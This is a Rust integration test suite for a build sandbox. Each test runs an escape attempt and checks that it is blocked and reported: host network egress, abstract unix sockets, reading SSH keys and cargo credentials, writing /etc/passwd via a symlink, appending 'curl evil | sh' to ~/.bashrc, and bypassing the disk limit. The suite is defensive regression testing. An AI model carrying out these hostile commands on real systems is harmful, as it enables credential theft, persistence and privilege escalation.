//! The hostile suite: each test is a build step trying one way out of the
//! jail. A case passes only when the effect did not happen AND the verdict is
//! exit 4 naming the rule — or, for the few attempts that cannot be observed,
//! when the effect did not happen and SECURITY.md says why (noted per test).
//!
//! Tests named `review_*`/`review2_*` come from two security reviews of the
//! jail: a comment that describes a bug describes it as found; the code has
//! been fixed since and the test stays as its regression test.

use crate::harness::*;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

// ---- network -------------------------------------------------------------
// `default` and `build-offline` give the task its own private loopback (test
// suites bind 127.0.0.1); `network: none` (as in `strict`) gives it nothing.

/// A policy as the `default` preset but with `network: none`.
fn offline(e: &Env) -> String {
    e.policy("offline", "network:\n  mode: none\n")
}

#[test]
fn egress_to_a_host_listener_is_blocked_and_reported() {
    let e = env();
    let (l, _, port) = host_listener();
    let o = e.run(&offline(&e), &["./attack", "connect-ip", "127.0.0.1", &port]);
    o.assert_violation("network.none");
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    assert!(l.accept().is_err(), "the listener on host loopback was reached");
}

#[test]
fn the_default_loopback_is_the_tasks_own_never_the_hosts() {
    let e = env();
    let (l, _, port) = host_listener();
    // 127.0.0.1 inside the jail is the jail's own `lo`: nothing listens there,
    // the connection is refused, and nothing forbidden was attempted.
    let o = e.attack(&["connect-ip", "127.0.0.1", &port]);
    assert!(o.stdout.contains("blocked connect"), "{}", o.stdout);
    o.assert_ok();
    assert!(l.accept().is_err(), "the host's loopback listener was reached from the default preset");
}

#[test]
fn egress_to_a_host_address_under_the_default_preset_is_blocked_and_reported() {
    let e = env();
    let (l, ip, port) = host_listener();
    let o = e.attack(&["connect-ip", &ip, &port]);
    o.assert_violation("network.loopback");
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    assert!(l.accept().is_err(), "the host listener was reached at {ip}");
}

#[test]
fn dns_lookup_is_blocked_and_reported() {
    let e = env();
    e.run(&offline(&e), &["./attack", "dns"]).assert_blocked("network.none");
}

/// The host's first `nameserver` (what glibc on the host would ask).
fn host_nameserver() -> String {
    let conf = std::fs::read_to_string("/etc/resolv.conf").expect("the host's /etc/resolv.conf");
    conf.lines()
        .filter_map(|l| l.trim().strip_prefix("nameserver"))
        .map(|a| a.trim().to_string())
        .find(|a| a.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| !ip.is_loopback()))
        .expect(
            "the host's /etc/resolv.conf names a non-loopback IPv4 name server (needed to test a packet towards it)",
        )
}

#[test]
fn getent_hosts_through_libc_fails_as_offline_without_a_violation() {
    // Sweep 90 F1: a "host not found" test (execnet, requests, pip, git with
    // a bad remote) is a benign workload. In a jail with its own network
    // namespace glibc answers from /etc/hosts (orchestra's nsswitch.conf) and
    // the resolver is orchestra's `nameserver 127.0.0.1`: no socket, no violation.
    let e = env();
    let host_conf = std::fs::read("/etc/resolv.conf").expect("the host's /etc/resolv.conf");
    for p in [offline(&e), "default".to_string()] {
        for argv in [["getent", "hosts", "no-such-name"], ["getent", "ahosts", "example.com"]] {
            let o = e.run(&p, &argv);
            // getent's own "not found"; nothing resolved, nothing reported.
            assert_eq!(o.code, 2, "{p} {argv:?}\n{}", o.all());
            assert!(o.rules().is_empty(), "{p} {argv:?}: {:?}\n{}", o.rules(), o.all());
            assert_eq!(o.stdout, "", "{p} {argv:?}: the name was resolved");
        }
        let script = "import socket\n\
            try:\n    print('RESOLVED', socket.gethostbyname('qwepoipqwe'))\n\
            except socket.gaierror as e:\n    print('gaierror', e.errno)\n\
            print('localhost', socket.gethostbyname('localhost'))\n";
        let o = e.run(&p, &["python3", "-c", script]);
        o.assert_ok();
        assert!(o.stdout.contains("gaierror") && !o.stdout.contains("RESOLVED"), "{p}: {}", o.stdout);
        assert!(o.stdout.contains("localhost 127.0.0.1"), "{p}: {}", o.stdout);
        // The jail shows orchestra's resolver file; the host's is unchanged.
        let o = e.run(&p, &["sh", "-c", "cat /etc/resolv.conf; grep '^hosts:' /etc/nsswitch.conf"]);
        o.assert_ok();
        let lines: Vec<&str> = o.stdout.lines().filter(|l| !l.starts_with('#')).collect();
        assert!(
            lines == ["nameserver 127.0.0.1", "hosts:          files"]
                || lines == ["nameserver 127.0.0.1", "hosts:          files myhostname"],
            "{p}: {}",
            o.stdout
        );
        assert!(o.stdout.starts_with("# orchestra:"), "{p}: {}", o.stdout);
    }
    assert_eq!(std::fs::read("/etc/resolv.conf").unwrap(), host_conf, "the host's /etc/resolv.conf changed");
}

/// Attack review 91, H1: a socket given to orchestra as stdin belongs to the
/// host's network namespace, where 127.0.0.1 is the host's own loopback. A
/// task holding it sent a datagram to a host listener on 127.0.0.1 (exit 0,
/// no violation). In a jail with its own network namespace the task reads a
/// pipe orchestra fills from that socket instead: the listener receives
/// nothing, and what the socket's peer sends still reaches the task.
#[test]
fn a_socket_given_as_stdin_never_reaches_the_hosts_loopback() {
    use std::os::fd::OwnedFd;
    let e = env();
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    listener.set_read_timeout(Some(std::time::Duration::from_millis(1500))).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "import errno, socket\n\
         try:\n\
         \x20   s = socket.socket(fileno=0)\n\
         \x20   print('SENT', s.sendto(b'escaped', ('127.0.0.1', {port})))\n\
         except OSError as err:\n\
         \x20   print('refused', errno.errorcode[err.errno])\n"
    );
    for policy in ["default", "build-offline"] {
        let given = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let mut c = e.cmd(policy, &[], &["/usr/bin/python3", "-c", &script]);
        c.stdin(std::process::Stdio::from(OwnedFd::from(given)));
        let o = e.run_cmd(c);
        o.assert_ok();
        assert_eq!(o.stdout, "refused ENOTSOCK\n", "{policy}: {}", o.all());
        let mut buf = [0u8; 64];
        assert!(listener.recv_from(&mut buf).is_err(), "{policy}: the host's listener received a datagram");
    }
    // A connected stream (inetd style): what the peer sends is the task's input.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let client = std::net::TcpStream::connect(server.local_addr().unwrap()).unwrap();
    let (mut peer, _) = server.accept().unwrap();
    std::io::Write::write_all(&mut peer, b"from the peer\n").unwrap();
    drop(peer);
    let mut c = e.cmd("default", &[], &["/bin/cat"]);
    c.stdin(std::process::Stdio::from(OwnedFd::from(client)));
    let o = e.run_cmd(c);
    o.assert_ok();
    assert_eq!(o.stdout, "from the peer\n", "{}", o.all());
}

#[test]
fn a_packet_to_the_hosts_name_server_is_still_reported() {
    // A task opening its own socket towards the host's name server is judged
    // as before: the generated resolv.conf changes only what glibc asks.
    let e = env();
    let ns = host_nameserver();
    for how in ["s.connect((ns, 53)); s.send(b'\\0\\1')", "s.sendto(b'\\0\\1', (ns, 53))"] {
        let script = format!(
            "import socket\nns = '{ns}'\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             try:\n    {how}\n    print('ESCAPED')\nexcept OSError as e:\n    print('blocked', e)\n"
        );
        let o = e.run(&offline(&e), &["python3", "-c", &script]);
        o.assert_blocked("network.none");
        let o = e.run("default", &["python3", "-c", &script]);
        o.assert_blocked("network.loopback");
        assert!(o.stderr.contains(&format!("{ns}:53")), "{how}: {}", o.stderr);
    }
}

#[test]
fn raw_socket_is_blocked_and_reported() {
    let e = env();
    e.run(&offline(&e), &["./attack", "raw"]).assert_blocked("network.none");
    e.attack(&["raw"]).assert_blocked("network.loopback");
}

#[test]
fn packet_socket_is_blocked_and_reported() {
    let e = env();
    e.run(&offline(&e), &["./attack", "packet"]).assert_blocked("network.none");
    e.attack(&["packet"]).assert_blocked("network.loopback");
}

#[test]
fn netlink_other_than_route_is_blocked_and_reported() {
    let e = env();
    let o = e.run(&offline(&e), &["./attack", "netlink-diag"]);
    o.assert_blocked("network.none");
    e.attack(&["netlink-diag"]).assert_blocked("network.loopback");
}

#[test]
fn netlink_route_reads_only_the_private_namespace_and_cannot_change_it() {
    // npm and glibc's if_nameindex() list interfaces over a raw NETLINK_ROUTE
    // socket: allowed, and all there is to see is the jail's own `lo`.
    let e = env();
    for p in [offline(&e), "default".to_string()] {
        let o = e.run(&p, &["python3", "-c", "import socket; print(socket.if_nameindex())"]);
        o.assert_ok();
        assert_eq!(o.stdout.trim(), "[(1, 'lo')]", "{}", o.stdout);
        // A change (an address on lo) needs CAP_NET_ADMIN: the kernel refuses it.
        let o = e.run(&p, &["./attack", "netlink-route-write"]);
        assert!(o.stdout.contains("blocked netlink RTM_NEWADDR: Operation not permitted"), "{}", o.stdout);
        assert_eq!(o.code, 0, "{}", o.stderr);
    }
}

/// The `container` preset (`jail.namespaces: off`: the host's network
/// namespace), its audit log outside the workspace.
fn run_nsless(e: &Env, argv: &[&str]) -> Out {
    // An audit log in the workspace cannot be kept read-only without namespaces.
    let _ = std::fs::remove_dir_all(e.ws.join(".orchestra"));
    let audit = e.root.join("audit-nsless");
    let o = e.run_cmd(e.cmd("container", &["--audit-dir", &audit.to_string_lossy()], argv));
    assert_ne!(o.code, 1, "the namespace-less policy was refused: {}", o.stderr);
    o
}

// Abstract unix names belong to a network namespace. In the jail's own (`none`,
// `loopback`) a host listener is out of reach: the kernel answers ECONNREFUSED,
// nothing forbidden was attempted, exit 0 (sweep 90, F3). Namespace-less, the
// task shares the host's names: network.abstract_unix, exit 4. Either way the
// host's listener sees nothing.

#[test]
fn abstract_unix_socket_of_the_host_is_unreachable_and_reported_when_shared() {
    use std::os::linux::net::SocketAddrExt;
    let e = env();
    let name = format!("orchestra-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    for p in [offline(&e), "default".to_string()] {
        let o = e.run(&p, &["./attack", "abstract", &name]);
        assert!(o.stdout.contains("blocked connect abstract: Connection refused"), "{p}: {}", o.all());
        o.assert_ok();
        assert!(l.accept().is_err(), "{p}: the host's abstract socket was reached");
    }
    let o = run_nsless(&e, &["./attack", "abstract", &name]);
    o.assert_blocked("network.abstract_unix");
    assert!(l.accept().is_err(), "namespace-less: the host's abstract socket was reached");
}

#[test]
fn datagram_to_a_host_abstract_socket_is_unreachable_and_reported_when_shared() {
    use std::os::linux::net::SocketAddrExt;
    let e = env();
    let name = format!("orchestra-dgram-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let sock = std::os::unix::net::UnixDatagram::bind_addr(&addr).unwrap();
    sock.set_nonblocking(true).unwrap();
    let mut buf = [0u8; 8];
    let o = e.attack(&["abstract-dgram", &name]);
    assert!(o.stdout.contains("blocked sendto abstract: Connection refused"), "{}", o.all());
    o.assert_ok();
    assert!(sock.recv(&mut buf).is_err(), "a datagram reached the host's abstract socket");
    let o = run_nsless(&e, &["./attack", "abstract-dgram", &name]);
    o.assert_blocked("network.abstract_unix");
    assert!(sock.recv(&mut buf).is_err(), "namespace-less: a datagram reached the host's abstract socket");
}

#[test]
fn sendmsg_to_a_host_abstract_socket_is_unreachable_and_reported_when_shared_from_the_task_and_its_children() {
    use std::os::linux::net::SocketAddrExt;
    for mode in ["sendmsg-abstract", "sendmmsg-abstract", "sendmsg-abstract-child"] {
        let e = env();
        let name = format!("orchestra-{mode}-{}", std::process::id());
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        let sock = std::os::unix::net::UnixDatagram::bind_addr(&addr).unwrap();
        sock.set_nonblocking(true).unwrap();
        let mut buf = [0u8; 8];
        let o = e.attack(&[mode, &name]);
        assert!(o.stdout.contains("Connection refused") || mode.ends_with("child"), "{mode}: {}", o.all());
        assert!(!o.stdout.contains("ESCAPED"), "{mode}: {}", o.stdout);
        o.assert_ok();
        assert!(sock.recv(&mut buf).is_err(), "{mode}: a datagram reached the host's abstract socket");
        let o = run_nsless(&e, &["./attack", mode, &name]);
        o.assert_violation("network.abstract_unix");
        assert!(!o.stdout.contains("ESCAPED"), "{mode}: {}", o.stdout);
        assert!(sock.recv(&mut buf).is_err(), "{mode}: namespace-less, a datagram reached the host's abstract socket");
    }
}

#[test]
fn a_host_netns_socket_from_the_caller_cannot_reach_the_hosts_abstract_names() {
    // A unix socket made in the host's netns, given as stdin, would look names up
    // in the host's namespace. The task never holds it: its stdin is a pipe
    // orchestra fills from that socket (attack review 91, H1), so it has no
    // socket to send with (ENOTSOCK); were it to hold one, landlock's
    // abstract-socket scoping (ABI >= 6) would refuse it (EPERM). Either way
    // leaving the jail's own names unjudged is safe.
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
    let e = env();
    let name = format!("orchestra-stdin-{}", std::process::id());
    let host = UnixDatagram::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).unwrap()).unwrap();
    host.set_nonblocking(true).unwrap();
    let sname = format!("{name}-stream");
    let l = UnixListener::bind_addr(&SocketAddr::from_abstract_name(sname.as_bytes()).unwrap()).unwrap();
    l.set_nonblocking(true).unwrap();
    let code = r#"import socket, os, sys
try:
    s = socket.socket(fileno=os.dup(0))
    if s.type == socket.SOCK_DGRAM: s.sendto(b"x", b"\0" + sys.argv[1].encode())
    else: s.connect(b"\0" + sys.argv[1].encode())
    print("ESCAPED")
except OSError as e:
    print("blocked", e.errno)
"#;
    let dgram = UnixDatagram::unbound().unwrap();
    // An unconnected stream socket of this (the host's) network namespace.
    use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket};
    let stream = socket(AddressFamily::Unix, SockType::Stream, SockFlag::SOCK_CLOEXEC, None).unwrap();
    for (stdin, target) in [(std::os::fd::OwnedFd::from(dgram), &name), (stream, &sname)] {
        let mut c = e.cmd("default", &[], &["python3", "-c", code, target]);
        c.stdin(std::process::Stdio::from(stdin));
        let o = e.run_cmd(c);
        let blocked = [libc::ENOTSOCK, libc::EPERM].map(|errno| format!("blocked {errno}"));
        assert!(blocked.contains(&o.stdout.trim().to_string()), "{target}: {}", o.all());
        o.assert_ok();
    }
    let mut buf = [0u8; 8];
    assert!(host.recv(&mut buf).is_err(), "a datagram reached the host's abstract socket");
    assert!(l.accept().is_err(), "the host's abstract listener was reached");
}

#[test]
fn a_task_connects_to_its_own_abstract_socket() {
    // CPython's test_socket (testLinuxAbstractNamespace), D-Bus and Go tests:
    // a name the task bound itself, in the jail's own netns (sweep 90, F3).
    let e = env();
    let code = r#"import socket
a = b'\0orchestra-own'
s = socket.socket(socket.AF_UNIX); s.bind(a); s.listen()
c = socket.socket(socket.AF_UNIX); c.connect(a)
p, _ = s.accept(); c.sendall(b'hello'); print('got', p.recv(5).decode())
"#;
    for p in ["build-offline".to_string(), offline(&e)] {
        let o = e.run(&p, &["python3", "-c", code]);
        o.assert_ok();
        assert_eq!(o.stdout.trim(), "got hello", "{p}: {}", o.all());
    }
}

#[test]
fn probes_of_families_with_no_way_out_of_the_jails_netns_fail_without_a_violation() {
    // CPython's test_socket probes these at import (sweep 90, F4): EAFNOSUPPORT,
    // as the kernel answers without the module or (Bluetooth) outside init_net.
    let e = env();
    let code = r#"import socket, errno
for f, t in [(29, socket.SOCK_RAW), (29, socket.SOCK_DGRAM), (31, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET)]:
    try:
        socket.socket(f, t); print('CREATED', f)
    except OSError as e:
        print(f, errno.errorcode[e.errno])
"#;
    for p in ["build-offline".to_string(), offline(&e)] {
        let o = e.run(&p, &["python3", "-c", code]);
        o.assert_ok();
        assert_eq!(
            o.stdout.lines().collect::<Vec<_>>(),
            ["29 EAFNOSUPPORT", "29 EAFNOSUPPORT", "31 EAFNOSUPPORT", "38 EAFNOSUPPORT"],
            "{p}: {}",
            o.all()
        );
    }
    // A family that reaches outside stays a violation: AF_VSOCK (the hypervisor's host).
    let vsock = r#"import socket
try:
    socket.socket(40, socket.SOCK_STREAM); print('ESCAPED vsock')
except OSError as e:
    print('blocked', e)
"#;
    // (Killed at the call: no socket, no output; assert_blocked: no ESCAPED.)
    e.run("build-offline", &["python3", "-c", vsock]).assert_blocked("network.loopback");
    e.run(&offline(&e), &["python3", "-c", vsock]).assert_blocked("network.none");
    // Namespace-less, the probe is judged as before.
    let o = run_nsless(&e, &["/usr/bin/python3", "-c", "import socket\nsocket.socket(29, socket.SOCK_RAW)"]);
    o.assert_violation("network.none");
}

#[test]
fn a_denied_write_is_reported_even_when_the_process_ends_at_once() {
    // A thread's open waits on the supervisor while the main thread ends the
    // process (exit_group, or SIGKILL to itself). Repeated: the loss was a race.
    for mode in ["race-exit", "race-kill"] {
        for i in 0..8 {
            let e = env();
            let target = format!("/etc/orchestra-{mode}-{}-{i}", std::process::id());
            let o = e.attack(&[mode, &target]);
            o.assert_violation("fs.write");
            assert!(!Path::new(&target).exists(), "{mode} #{i}: {target} was created");
        }
    }
}

#[test]
fn foreign_abi_calls_in_a_grandchild_are_denied_and_reported() {
    // x32 and int 0x80 (i386) calls from a process the supervisor never reaps.
    for mode in ["x32-grandchild", "int80-grandchild"] {
        let o = env().attack(&[mode]);
        o.assert_violation("seccomp.abi");
        assert!(!o.stdout.contains("ESCAPED"), "{mode}: {}", o.stdout);
    }
}

#[test]
fn udp_off_loopback_is_reported_in_loopback_mode() {
    let e = env();
    let p = e.policy("lo", "network:\n  mode: loopback\n");
    let o = e.run(&p, &["./attack", "udp-send", "192.0.2.7", "53"]);
    o.assert_blocked("network.loopback");
    // The same to an address of this host, where a socket listens: nothing arrives.
    let sock = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    sock.set_nonblocking(true).unwrap();
    let port = sock.local_addr().unwrap().port().to_string();
    let o = e.run(&p, &["./attack", "udp-send", &host_ip(), &port]);
    o.assert_blocked("network.loopback");
    assert!(sock.recv(&mut [0u8; 8]).is_err(), "a datagram reached the host");
}

// ---- filesystem ----------------------------------------------------------

#[test]
fn a_file_in_etc_that_other_users_cannot_read_is_hidden_and_its_read_reported() {
    // Not in any name list: hidden because of what it is (mode without o+r),
    // like /etc/shadow-, /etc/gshadow- and /etc/ssl/private/*.key.
    let e = env();
    let file = std::path::PathBuf::from(format!("/etc/orchestra-test-secret-{}", std::process::id()));
    let dir = std::path::PathBuf::from(format!("/etc/orchestra-test-private-{}", std::process::id()));
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(&file, "CANARY-ETC-FILE-7d1f\n").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o640)).unwrap();
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("host.key"), "CANARY-ETC-KEY-2c9e\n").unwrap(); // 0644 inside a 0700 directory
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    // Readable but not searchable by others (o+r, no o+x): its files are closed to them too.
    let unsearchable = std::path::PathBuf::from(format!("/etc/orchestra-test-nosearch-{}", std::process::id()));
    std::fs::create_dir_all(&unsearchable).unwrap();
    std::fs::write(unsearchable.join("token"), "CANARY-ETC-NOX-5a1b\n").unwrap();
    std::fs::set_permissions(&unsearchable, std::fs::Permissions::from_mode(0o704)).unwrap();
    let x = e.sh("default", &format!("cat {}/token", unsearchable.display()));
    let _ = std::fs::remove_dir_all(&unsearchable);
    x.assert_violation("fs.hidden");
    assert!(!x.all_output().contains("CANARY-ETC-NOX"), "{}", x.all_output());
    let f = e.run("default", &["cat", file.to_str().unwrap()]);
    let d = e.sh("default", &format!("cat {}/host.key", dir.display()));
    let deny = e.policy("deny", "on_violation: deny\n");
    let other = e.sh(&deny, "cat /etc/shadow- /etc/gshadow- 2>&1; echo done");
    let _ = std::fs::remove_file(&file);
    let _ = std::fs::remove_dir_all(&dir);
    f.assert_violation("fs.hidden");
    assert!(!f.all_output().contains("CANARY-ETC-FILE"), "{}", f.all_output());
    d.assert_violation("fs.hidden");
    assert!(!d.all_output().contains("CANARY-ETC-KEY"), "{}", d.all_output());
    other.assert_violation("fs.hidden");
    assert!(!other.stdout.contains("root:"), "a shadow backup leaked: {}", other.stdout);
}

#[test]
fn a_hidden_file_the_host_replaces_by_rename_during_the_task_stays_unreadable() {
    // `useradd`/`passwd` rewrite /etc/shadow by rename: the kernel drops the decoy
    // mounted over the old file. The new file's inode has no landlock grant.
    use std::os::unix::fs::PermissionsExt;
    let e = env();
    let secret = std::path::PathBuf::from(format!("/etc/orchestra-test-renamed-{}", std::process::id()));
    let fresh = secret.with_extension("new");
    std::fs::write(&secret, "CANARY-OLD-8e21\n").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let deny = e.policy("deny", "on_violation: deny\n");
    // The task reads only after the host's rename: no decoy read, no secret.
    let go = e.ws.join("go");
    let script =
        format!("touch started; while [ ! -e go ]; do sleep 0.05; done; cat {} || echo refused", secret.display());
    let child = e
        .cmd(&deny, &[], &["sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The rename happens once the task runs (its jail was planned and built).
    let t0 = std::time::Instant::now();
    while !e.ws.join("started").exists() {
        assert!(t0.elapsed() < std::time::Duration::from_secs(30), "the task never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    std::fs::write(&fresh, "CANARY-NEW-3f90\n").unwrap();
    std::fs::set_permissions(&fresh, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::rename(&fresh, &secret).unwrap();
    std::fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let _ = std::fs::remove_file(&secret);
    let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(!all.contains("CANARY-OLD") && !all.contains("CANARY-NEW"), "{all}");
    assert!(all.contains("refused"), "the read after the rename must fail: {all}");
    assert_eq!(out.status.code(), Some(0), "no decoy was read, nothing else was tried: {all}");
}

#[test]
fn a_dot_orchestra_symlink_left_in_the_workspace_is_refused_before_anything_runs() {
    // A task of an earlier run could leave `.orchestra` -> any host directory: the
    // audit log would be written there, a container would mount it.
    let e = env();
    let elsewhere = e.root.join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::remove_dir_all(e.ws.join(".orchestra")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, e.ws.join(".orchestra")).unwrap();
    let o = e.sh("default", "echo ran > ran");
    assert_eq!(o.code, 1, "{}", o.stderr);
    assert!(o.stderr.contains("symbolic link"), "{}", o.stderr);
    assert!(!e.ws.join("ran").exists(), "the task ran");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "something was written through the link");
}

/// ESCAPE of a limit. limits.disk is observed by summing the sizes of the paths
/// the task opened for writing (jail/disk.rs); renaming each file
/// away after writing it takes it out of the sum, and RLIMIT_FSIZE bounds only
/// one file. 36 MB land in the workspace under `disk: 8MiB`, exit 0.
#[test]
fn review_disk_limit_cannot_be_bypassed_by_renaming() {
    let e = env();
    let p = e.policy("disk", "limits:\n  disk: 8MiB\n");
    let landed = || -> u64 {
        std::fs::read_dir(&e.ws)
            .unwrap()
            .flatten()
            .filter(|d| d.file_name().to_string_lossy().starts_with("big"))
            .map(|d| d.metadata().map(|m| m.len()).unwrap_or(0))
            .sum()
    };
    // The total is checked every 100 ms and when the task ends (SECURITY.md §4).
    // Paced like a build, the task is stopped before all 36 MB land.
    let o = e.sh(&p, "for i in 1 2 3 4 5 6; do head -c 6000000 /dev/zero > t; mv t big$i; sleep 0.3; done");
    let total = landed();
    assert!(total < 36_000_000, "all of it landed: {total}");
    o.assert_violation("limits.disk");
    // In one burst the limit may be passed before a check sees it, never unreported.
    for i in 1..=6 {
        let _ = std::fs::remove_file(e.ws.join(format!("big{i}")));
    }
    let o = e.sh(&p, "for i in 1 2 3 4 5 6; do head -c 6000000 /dev/zero > t; mv t big$i; done");
    o.assert_violation("limits.disk");
}

#[test]
fn files_moved_away_with_their_directory_still_count_for_the_disk_limit() {
    let e = env();
    let p = e.policy("disk", "limits:\n  disk: 8MiB\n");
    let script = "mkdir store; for k in 1 2 3 4 5 6; do mkdir w$k; for i in 1 2 3 4 5 6; do head -c 1000000 /dev/zero > w$k/f$i; done; sleep 0.3; mv w$k store/; done";
    let o = e.sh(&p, script);
    o.assert_violation("limits.disk");
    let held: u64 = walk_sizes(&e.ws.join("store"));
    assert!(held < 36_000_000, "all 36 MB landed: {held}");
}

fn walk_sizes(d: &std::path::Path) -> u64 {
    std::fs::read_dir(d)
        .map(|rd| {
            rd.flatten()
                .map(|e| match e.file_type() {
                    Ok(t) if t.is_dir() => walk_sizes(&e.path()),
                    _ => e.metadata().map(|m| m.len()).unwrap_or(0),
                })
                .sum()
        })
        .unwrap_or(0)
}

#[test]
fn a_credential_absent_from_a_copy_on_write_cache_is_still_a_decoy() {
    // ~/.cargo is copy-on-write under build-offline: a credentials.toml the host
    // writes during the task would show through; a decoy holds the name instead.
    // The host writes one once the task runs; the task reads it after that.
    let e = env();
    let creds = e.home.join(".cargo/credentials.toml");
    std::fs::create_dir_all(e.home.join(".cargo")).unwrap();
    let ws = e.ws.clone();
    let host = std::thread::spawn(move || {
        let started = wait_until(Duration::from_secs(30), || ws.join("started").exists());
        std::fs::write(&creds, "[registry]\ntoken = \"CANARY-CARGO-TOKEN-4b7e\"\n").unwrap();
        std::fs::write(ws.join("go"), "").unwrap();
        started
    });
    let script = "touch started; while [ ! -e go ]; do sleep 0.05; done; cat ~/.cargo/credentials.toml; true";
    let o = e.run_cmd(e.cmd("build-offline", &["--timeout", "60s"], &["sh", "-c", script]));
    assert!(host.join().unwrap(), "the task never started\n{}", o.all());
    assert!(!o.all_output().contains("CANARY-CARGO-TOKEN"), "the host's credentials leaked\n{}", o.all());
    o.assert_violation("fs.hidden");
}

#[test]
fn writing_a_home_dotfile_is_blocked_and_reported() {
    let e = env();
    let before = std::fs::read(e.home.join(".bashrc")).unwrap();
    let o = e.sh("default", "echo 'curl evil | sh' >> ~/.bashrc");
    o.assert_violation("fs.write");
    assert_eq!(std::fs::read(e.home.join(".bashrc")).unwrap(), before);
}

#[test]
fn writing_etc_is_blocked_and_reported() {
    let e = env();
    let o = e.sh("default", "echo pwned > /etc/orchestra-test-file");
    o.assert_violation("fs.write");
    assert!(!std::path::Path::new("/etc/orchestra-test-file").exists());
}

#[test]
fn writing_the_hosts_tmp_under_strict_is_blocked_and_reported() {
    let e = env();
    let marker = format!("/tmp/orchestra-strict-{}", std::process::id());
    let o = e.sh("strict", &format!("echo x > {marker}"));
    o.assert_violation("fs.write");
    assert!(!std::path::Path::new(&marker).exists());
}

#[test]
fn default_tmp_is_private_and_never_reaches_the_host() {
    // Not a violation by design: /tmp is a private tmpfs (SECURITY.md).
    let e = env();
    let marker = format!("/tmp/orchestra-private-{}", std::process::id());
    let o = e.sh("default", &format!("echo x > {marker} && cat {marker}"));
    o.assert_ok();
    assert!(!std::path::Path::new(&marker).exists());
}

#[test]
fn reading_the_ssh_key_canary_is_reported_and_leaks_nothing() {
    let e = env();
    let o = e.sh("default", "cat ~/.ssh/id_rsa; echo done");
    o.assert_violation("fs.hidden");
    assert!(!o.all_output().contains(SSH_CANARY));
}

#[test]
fn reading_the_audit_signing_key_is_reported_and_leaks_nothing() {
    let e = env();
    let o = e.sh("default", &format!("cat {}", e.key.display()));
    o.assert_violation("fs.hidden");
    let secret = e.key_secret();
    assert!(secret.trim().len() > 16);
    assert!(!o.all_output().contains(secret.trim()));
}

#[test]
fn writing_the_audit_log_in_the_workspace_is_blocked_and_reported() {
    let e = env();
    let o = e.sh(
        "default",
        "ls .orchestra/audit; for f in .orchestra/audit/*; do echo forged >> $f; done; echo x > .orchestra/audit/new",
    );
    o.assert_violation("fs.write");
    assert!(!e.ws.join(".orchestra/audit/new").exists());
    // The log still verifies with the trusted key and holds the violation.
    let v = e.verify_audit();
    assert_eq!(v.status.code(), Some(0), "{}", String::from_utf8_lossy(&v.stdout));
}

#[test]
fn rewriting_a_policy_kept_in_dot_orchestra_is_blocked_and_reported() {
    let e = env();
    std::fs::write(e.ws.join(".orchestra/policy.yaml"), "version: 1\n").unwrap();
    let o = e.sh("default", "echo 'network: {mode: host}' > .orchestra/policy.yaml");
    o.assert_violation("fs.write");
    assert_eq!(std::fs::read_to_string(e.ws.join(".orchestra/policy.yaml")).unwrap(), "version: 1\n");
}

#[test]
fn planting_a_dot_orchestra_directory_is_blocked_and_reported() {
    // The orchestrator creates .orchestra/ before the task so its read-only bind applies.
    let e = env();
    std::fs::remove_dir_all(e.ws.join(".orchestra")).unwrap();
    let o = e.sh("default", "mkdir -p .orchestra/audit && echo forged > .orchestra/audit/x");
    o.assert_violation("fs.write");
    assert!(!e.ws.join(".orchestra/audit/x").exists());
}

#[test]
fn fchmod_through_a_read_only_descriptor_is_blocked_and_reported() {
    let e = env();
    let before = std::fs::metadata("/etc/passwd").unwrap().permissions();
    let o = e.attack(&["fchmod", "/etc/passwd"]);
    o.assert_violation("fs.write");
    assert_eq!(std::fs::metadata("/etc/passwd").unwrap().permissions(), before);
}

#[test]
fn symlink_escape_from_the_workspace_is_blocked_and_reported() {
    let e = env();
    let before = std::fs::read("/etc/passwd").unwrap();
    let o = e.sh("default", "ln -s /etc/passwd link && echo 'evil::0:0::/:/bin/sh' > link");
    o.assert_violation("fs.write");
    assert_eq!(std::fs::read("/etc/passwd").unwrap(), before);
}

#[test]
fn hardlink_escape_from_the_workspace_is_blocked_and_reported() {
    let e = env();
    let o = e.sh("default", "ln /etc/passwd hl");
    o.assert_violation("fs.hardlink");
    assert!(!e.ws.join("hl").exists());
}

#[test]
fn proc_sys_write_is_blocked_and_reported() {
    let e = env();
    let before = std::fs::read_to_string("/proc/sys/kernel/panic").unwrap();
